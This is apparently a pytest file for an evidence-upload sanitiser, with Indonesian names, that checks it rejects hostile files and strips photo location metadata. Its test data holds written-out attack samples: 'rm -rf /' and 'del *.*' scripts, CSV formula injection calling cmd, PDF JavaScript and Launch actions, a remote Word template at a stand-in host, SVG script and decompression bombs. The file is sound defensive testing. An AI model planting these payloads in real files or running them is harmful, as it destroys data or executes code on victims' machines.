"""Hostile files offered as evidence: judged by what is in them, whatever they are called."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
import pytest
from docx import Document
from PIL import Image

from selaras.penulis.paket import batas
from selaras.penulis.paket.bukti.foto import SISI, perkecil_foto
from selaras.penulis.paket.bukti.kenali import bersihkan_bukti
from selaras.penulis.paket.bukti.tolak import BuktiError
from tests.apps.kantor_rekam import PDF, gambar


def pdf(**isi: object) -> bytes:
    """A PDF of an independent writer, with object streams, whose catalogue holds ``isi``."""
    keluar = BytesIO()
    with pikepdf.new() as dok:
        dok.add_blank_page()
        for nama, satu in isi.items():
            dok.Root[f"/{nama}"] = satu
        dok.save(keluar, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return keluar.getvalue()


def aksi(jenis: str, **isi: object) -> bytes:
    return pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name(f"/{jenis}"), **isi))


def terkunci() -> bytes:
    keluar = BytesIO()
    with pikepdf.new() as dok:
        dok.add_blank_page()
        dok.save(keluar, encryption=pikepdf.Encryption(owner="a", user="b"))
    return keluar.getvalue()


def berlampiran() -> bytes:
    keluar = BytesIO()
    with pikepdf.new() as dok:
        dok.add_blank_page()
        dok.attachments["a.exe"] = b"MZ"
        dok.save(keluar, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return keluar.getvalue()


def bom_pdf() -> bytes:
    padat = zlib.compress(b" " * 100_000_000, 9)
    return (
        b"%PDF-1.5\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
        + padat
        + (b"\nendstream\nendobj\n%%EOF\n")
    )


def kantor(**bagian: bytes | str) -> bytes:
    """A small .docx with more parts."""
    keluar = BytesIO()
    Document().save(keluar)
    with zipfile.ZipFile(keluar, "a", zipfile.ZIP_DEFLATED) as arsip:
        for nama, isi in bagian.items():
            arsip.writestr(nama, isi)
    return keluar.getvalue()


def zip_biasa() -> bytes:
    keluar = BytesIO()
    with zipfile.ZipFile(keluar, "w") as arsip:
        arsip.writestr("a.exe", "MZ")
    return keluar.getvalue()


REL = (
    '<Relationships xmlns="x"><Relationship Id="r" Type="http://x/attachedTemplate" '
    'Target="http://jahat.example/t.dotm" TargetMode="External"/></Relationships>'
)
# Many beginnings of an element and no end: a search that starts anew at each never comes back.
RAMAI = "<".join(f"{ke * 2654435761 % 2**32:x}" for ke in range(100_000))
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JAHAT = {
    "svg": ("a.svg", SVG, "SVG"),
    "svg bernama png": ("a.png", SVG, "SVG"),
    "svg dengan spasi": ("a.txt", b"\xef\xbb\xbf\n  " + SVG, "SVG"),
    "html bernama pdf": ("a.pdf", b"<!doctype html><script>x</script>", "halaman web"),
    "html di tengah teks": ("a.txt", b"catatan\n<script src=x>", "halaman web"),
    "program": ("a.pdf", b"MZ\x90\0" + b"\0" * 50, "program"),
    "elf": ("a.jpg", b"\x7fELF\2\1\1\0", "program"),
    "skrip": ("a.txt", b"#!/bin/sh\nrm -rf /", "skrip"),
    "skrip tanpa tanda": ("a.bat", b"del *.*", "hanya .txt dan .csv"),
    "kosong": ("a.pdf", b"", "kosong"),
    "zip": ("a.docx", zip_biasa(), "arsip zip"),
    "zip bom": ("a.docx", kantor(**{"word/media/a.xml": b"0" * 70_000_000}), "membengkak"),
    "makro": ("a.docx", kantor(**{"word/vbaProject.bin": b"x"}), "makro"),
    "benda sisipan": ("a.docx", kantor(**{"word/embeddings/oleObject1.bin": b"x"}), "makro"),
    "templat jauh": ("a.docx", kantor(**{"word/_rels/settings.xml.rels": REL}), "alamat lain"),
    "templat jauh UTF-16": (
        "a.docx", kantor(**{"word/_rels/a.xml.rels": REL.encode("utf-16")}), "alamat lain",
    ),
    "templat jauh tersamar": (
        "a.docx",
        kantor(**{"word/_rels/a.xml.rels": REL.replace("External", "&#69;xternal")}),
        "alamat lain",
    ),
    "templat jauh dengan kurung": (
        "a.docx", kantor(**{"word/_rels/a.xml.rels": REL.replace("t.dotm", "?>")}), "alamat lain",
    ),
    "tautan yang lama diperiksa": (
        "a.docx", kantor(**{"word/_rels/a.xml.rels": RAMAI}), "rusak",
    ),
    "doc lama": ("a.doc", b"\xd0\xcf\x11\xe0" + b"\0" * 600, "Office lama"),
    "pdf skrip": ("a.pdf", aksi("JavaScript", JS="app.alert(1)"), "JavaScript"),
    "pdf program": ("a.pdf", aksi("Launch", F="cmd.exe"), "menjalankan program"),
    "pdf skrip tersamar": (
        "a.pdf", PDF.replace(b"/Type", b"/OpenAction << /S /J#61vaScript >> /Type"), "JavaScript",
    ),
    "pdf lampiran": ("a.pdf", berlampiran(), "lampiran"),
    "pdf terkunci": ("a.pdf", terkunci(), "sandi"),
    "pdf bom": ("a.pdf", bom_pdf(), "membengkak"),
    "pdf terpotong": ("a.pdf", PDF[:40], "terpotong"),
    "pdf dan zip": ("a.pdf", PDF + zip_biasa(), "sesudah akhir PDF"),
    "pdf dan ekor": ("a.pdf", PDF + b"x" * 9000, "sesudah akhir PDF"),
    "gambar terpotong": ("a.png", gambar()[:40], "rusak"),
    "bom piksel": (
        "a.png",
        gambar().replace(gambar()[16:24], struct.pack(">II", 60_000, 60_000)),
        "terlalu besar|rusak",
    ),
    "biner": ("a.txt", b"a\0b", "tidak dikenal"),
    "rumus csv": ("a.csv", b'nama,isi\nA,"=cmd|\' /C calc\'!A0"\n', "rumus di baris 2"),
    "rumus csv tambah": ("a.csv", b"a;+cmd|x\n", "rumus di baris 1"),
}  # fmt: skip


@pytest.mark.parametrize(("nama", "isi", "kata"), JAHAT.values(), ids=list(JAHAT))
def test_it_refuses_and_says_why(nama: str, isi: bytes, kata: str) -> None:
    with pytest.raises(BuktiError, match=kata):
        bersihkan_bukti(nama, isi)


BAIK = {
    "pdf": ("apa saja", pdf(), ".pdf"),
    "pdf yang memilih halaman pertama": (
        "a.pdf", pdf(OpenAction=pikepdf.Array([0, pikepdf.Name("/Fit")])), ".pdf",
    ),
    "docx": ("a", kantor(), ".docx"),
    "teks": ("a.TXT", "Catatan – 3 < 5\n- butir\n".encode(), ".txt"),
    "csv": ("a.csv", b"nama,nilai\nA,-5\nB,\"-\"\nC,a=b\n", ".csv"),
    "png": ("a.pdf", gambar(), ".png"),
}  # fmt: skip


@pytest.mark.parametrize(("nama", "isi", "akhiran"), BAIK.values(), ids=list(BAIK))
def test_what_may_be_kept_keeps_its_bytes(nama: str, isi: bytes, akhiran: str) -> None:
    bersih = bersihkan_bukti(nama, isi)
    assert (bersih.akhiran, bersih.isi) == (akhiran, isi)
    assert bersihkan_bukti(f"x{akhiran}", bersih.isi) == bersih


def test_too_large_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batas, "BUKTI", 100)
    with pytest.raises(BuktiError, match="melebihi"):
        bersihkan_bukti("a.pdf", PDF + b" " * 100)


@pytest.mark.parametrize("jenis", ["PNG", "JPEG"])
def test_a_photograph_loses_where_it_was_taken_and_stands_upright(jenis: str) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned
    exif[0x010F] = "Kamera Rahasia"
    exif.get_ifd(0x8825)[1] = "S"
    exif.get_ifd(0x8825)[2] = (2.0, 8.0, 3.0)
    asli = BytesIO()
    Image.new("RGB", (20, 10), "navy").save(asli, jenis, exif=exif)
    # and something hidden behind the picture
    bersih = bersihkan_bukti("a.jpg", asli.getvalue() + SVG)
    assert b"Rahasia" in asli.getvalue()
    assert b"Rahasia" not in bersih.isi
    assert b"svg" not in bersih.isi
    with Image.open(BytesIO(bersih.isi)) as baca:
        assert baca.size == (10, 20)
        assert not dict(baca.getexif())
        assert not dict(baca.getexif().get_ifd(0x8825))


def test_a_large_photograph_is_kept_smaller_and_stays_clean() -> None:
    asli = BytesIO()
    Image.new("RGB", (SISI + 400, 300), "navy").save(asli, "JPEG")
    kecil = perkecil_foto(bersihkan_bukti("a.jpg", asli.getvalue()).isi)
    with Image.open(BytesIO(kecil)) as baca:
        assert baca.size[0] == SISI
    assert bersihkan_bukti("a.jpg", kecil).isi == kecil
    assert perkecil_foto(kecil) == kecil
